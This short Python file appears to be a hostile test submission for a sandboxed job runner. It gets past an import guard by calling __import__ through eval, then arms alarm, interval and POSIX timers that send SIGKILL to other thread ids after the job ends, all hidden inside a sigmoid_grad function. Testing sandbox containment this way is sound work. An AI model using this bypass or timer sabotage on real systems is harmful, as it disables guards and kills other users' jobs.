"""Hostile: arm every kind of timer (alarm, setitimer real/virtual/prof, POSIX timers aimed at
other thread ids with SIGKILL) to fire after the job ended, in the child waiting for the next job."""
_m = lambda name: eval("__import__(name)", {"name": name})  # slips past the import guard: the sandbox must hold
os = _m("os")
signal = _m("signal")
ctypes = _m("ctypes")
np = _m("numpy")

SIGEV_SIGNAL, SIGEV_THREAD_ID, CLOCK_MONOTONIC = 0, 4, 1


class SigEvent(ctypes.Structure):
    _fields_ = [("value", ctypes.c_void_p), ("signo", ctypes.c_int), ("notify", ctypes.c_int),
                ("tid", ctypes.c_int), ("pad", ctypes.c_char * 44)]


class ITimerSpec(ctypes.Structure):
    _fields_ = [("interval_s", ctypes.c_long), ("interval_ns", ctypes.c_long), ("value_s", ctypes.c_long),
                ("value_ns", ctypes.c_long)]


def _arm():
    signal.signal(signal.SIGALRM, signal.SIG_DFL)
    signal.alarm(3)
    for which in (signal.ITIMER_REAL, signal.ITIMER_VIRTUAL, signal.ITIMER_PROF):
        signal.setitimer(which, 2.5, 0.5)
    libc = ctypes.CDLL(None, use_errno=True)
    armed = []
    for tid in range(1, 64):
        event = SigEvent(None, 9, SIGEV_THREAD_ID, tid)
        timer = ctypes.c_void_p()
        if libc.timer_create(CLOCK_MONOTONIC, ctypes.byref(event), ctypes.byref(timer)) == 0:
            libc.timer_settime(timer, 0, ctypes.byref(ITimerSpec(0, 0, 3, 0)), None)
            armed.append(tid)
    return armed


def sigmoid_grad(x):
    print("armed for", _arm())
    s = 0.5 * (1.0 + np.tanh(0.5 * x))
    return s * (1.0 - s)
